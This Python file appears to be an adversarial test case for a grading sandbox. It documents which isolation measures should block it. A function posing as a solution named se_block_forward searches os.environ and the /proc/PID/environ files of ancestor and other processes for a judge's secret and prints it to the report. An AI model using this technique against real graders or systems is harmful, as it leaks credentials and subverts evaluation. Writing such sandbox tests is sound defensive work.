"""Attack: find a secret of the judge's environment and print it into the report.

Looks in os.environ, then in /proc/PID/environ of its ancestors (the judge that graded
it among them), then of every other process it can see. Ancestors first: with other
grades running beside it (the suite on several workers), another judge's secret found
first would hide whether this judge's own leaked.

Stopped by: the runner's environment is an allowlist; under bwrap no other process is
visible; under the fallback a non-root judge makes its /proc files unreadable to its
own user. A root judge's are readable by a root runner.
"""

import os

import numpy as np

NAME = "JUDGE_TEST_SECRET"


def _ancestors():
    pids, pid = [], os.getpid()
    while pid > 1 and len(pids) < 16:
        try:
            with open(f"/proc/{pid}/stat", "rb") as handle:
                stat = handle.read()
        except OSError:
            break
        pid = int(stat[stat.rfind(b")") + 2:].split()[1])
        pids.append(str(pid))
    return pids


def _search():
    if NAME in os.environ:
        return "os.environ", os.environ[NAME]
    ancestors = _ancestors()
    for pid in ancestors + [p for p in os.listdir("/proc") if p not in ancestors]:
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                for entry in handle.read().split(b"\0"):
                    if entry.startswith(NAME.encode() + b"="):
                        return f"/proc/{pid}/environ", entry.split(b"=", 1)[1].decode()
        except OSError:
            pass
    return None


def se_block_forward(seed, x, reduction):
    found = _search()
    print(f"ESCAPED: {found[0]}: {found[1]}" if found else "BLOCKED: no secret found")
    return np.zeros(np.asarray(x).size, np.float32)
